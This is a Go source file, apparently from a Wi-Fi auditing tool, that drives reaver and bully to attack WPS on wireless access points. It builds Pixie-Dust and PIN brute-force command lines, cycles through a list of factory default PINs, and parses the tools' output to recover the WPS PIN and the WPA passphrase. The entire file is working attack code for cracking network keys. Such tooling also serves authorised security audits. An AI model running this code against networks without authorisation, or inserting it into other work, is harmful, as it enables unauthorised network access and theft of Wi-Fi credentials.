package tools

import (
	"context"
	"regexp"
	"strconv"
	"time"

	"github.com/sirupsen/logrus"

	"github.com/ExclusiveAccount/wifi-auditor/pkg/config"
	"github.com/ExclusiveAccount/wifi-auditor/pkg/process"
)

// DefaultPINs are factory PINs worth trying before anything slower, most
// common first
var DefaultPINs = []string{
	"12345670", "00000000", "12345678", "01234567",
	"11111111", "22222222", "33333333", "44444444",
	"55555555", "66666666", "77777777", "88888888",
	"99999999", "00000001", "12345679", "87654321",
}

var (
	reaverPIN  = regexp.MustCompile(`(?i)WPS pin:\s*'?([0-9]+)'?`)
	reaverPSK  = regexp.MustCompile(`WPA PSK:\s*'(.*)'`)
	reaverSSID = regexp.MustCompile(`AP SSID:\s*'(.*)'`)
	bullyKey   = regexp.MustCompile(`Pin is '(\d*)', key is '(.*)'`)
)

// WPSResult is what reaver or bully recovered
type WPSResult struct {
	PIN   string
	PSK   string // Empty when only the PIN was recovered
	ESSID string // As reported by the access point, if printed
}

// ParseReaver extracts the PIN and PSK from reaver output
func ParseReaver(out string) (*WPSResult, bool) {
	m := reaverPIN.FindStringSubmatch(out)
	if m == nil {
		return nil, false
	}
	res := &WPSResult{PIN: m[1]}
	if m := reaverPSK.FindStringSubmatch(out); m != nil {
		res.PSK = m[1]
	}
	if m := reaverSSID.FindStringSubmatch(out); m != nil {
		res.ESSID = m[1]
	}
	return res, true
}

// ParseBully extracts the PIN and PSK from bully output
func ParseBully(out string) (*WPSResult, bool) {
	m := bullyKey.FindStringSubmatch(out)
	if m == nil {
		return nil, false
	}
	return &WPSResult{PIN: m[1], PSK: m[2]}, true
}

// WPS runs reaver or bully
type WPS struct {
	cfg     config.Config
	tracker *process.Tracker
	logger  *logrus.Logger

	// PINAttemptTimeout bounds each default PIN attempt
	PINAttemptTimeout time.Duration
}

// NewWPS creates a WPS attack runner
func NewWPS(cfg config.Config, tracker *process.Tracker, logger *logrus.Logger) *WPS {
	if logger == nil {
		logger = logrus.New()
	}
	return &WPS{cfg: cfg, tracker: tracker, logger: logger, PINAttemptTimeout: 5 * time.Second}
}

// Tool picks bully when requested or when reaver is missing
func (w *WPS) Tool() (string, error) {
	order := []string{"reaver", "bully"}
	if w.cfg.UseBully {
		order = []string{"bully", "reaver"}
	}
	for _, name := range order {
		if process.Exists(name) {
			return name, nil
		}
	}
	return "", RequireAny(order...)
}

// PixieArgs builds the Pixie-Dust command line for tool
func (w *WPS) PixieArgs(tool, bssid string, channel int) []string {
	ch := strconv.Itoa(channel)
	if tool == "bully" {
		return []string{"--bssid", bssid, "--channel", ch, "--pixiewps", "--force", w.cfg.Interface}
	}
	return []string{"-i", w.cfg.Interface, "-b", bssid, "-c", ch, "-K", "1", "-vv"}
}

// PINArgs builds the PIN attack command line for tool. An empty pin makes the
// tool brute-force the PIN space.
func (w *WPS) PINArgs(tool, bssid string, channel int, pin string) []string {
	ch := strconv.Itoa(channel)
	if tool == "bully" {
		args := []string{"--bssid", bssid, "--channel", ch}
		if pin != "" {
			args = append(args, "--pin", pin)
		}
		return append(args, "--force", w.cfg.Interface)
	}
	args := []string{"-i", w.cfg.Interface, "-b", bssid, "-c", ch, "-vv"}
	if pin != "" {
		args = append(args, "-p", pin, "-t", "2", "-T", "2")
	}
	return args
}

// Run starts tool with args and watches its output until a PIN shows up, the
// tool exits or timeout passes. A nil result without error means nothing was
// recovered.
func (w *WPS) Run(ctx context.Context, tool string, args []string, timeout time.Duration) (*WPSResult, error) {
	parse := ParseReaver
	if tool == "bully" {
		parse = ParseBully
	}

	h, err := process.Start(tool, args, process.Options{Tracker: w.tracker, Logger: w.logger})
	if err != nil {
		return nil, err
	}
	defer h.Interrupt(w.cfg.InterruptGrace)

	deadline := time.NewTimer(timeout)
	defer deadline.Stop()
	ticker := time.NewTicker(w.cfg.Tick)
	defer ticker.Stop()

	for {
		select {
		case <-ctx.Done():
			return nil, ctx.Err()
		case <-deadline.C:
			w.logger.Debugf("%s gave up after %s", tool, timeout)
			return nil, nil
		case <-h.Done():
			res, _ := parse(h.Stdout())
			return res, nil
		case <-ticker.C:
			if res, ok := parse(h.Stdout()); ok {
				return res, nil
			}
		}
	}
}

// TryDefaultPINs tries each default PIN in turn and stops at the first hit
func (w *WPS) TryDefaultPINs(ctx context.Context, tool, bssid string, channel int) (*WPSResult, error) {
	for i, pin := range DefaultPINs {
		w.logger.WithFields(logrus.Fields{"bssid": bssid, "pin": pin}).
			Debugf("Trying default PIN %d/%d", i+1, len(DefaultPINs))
		res, err := w.Run(ctx, tool, w.PINArgs(tool, bssid, channel, pin), w.PINAttemptTimeout)
		if err != nil {
			return nil, err
		}
		if res != nil {
			return res, nil
		}
	}
	return nil, nil
}
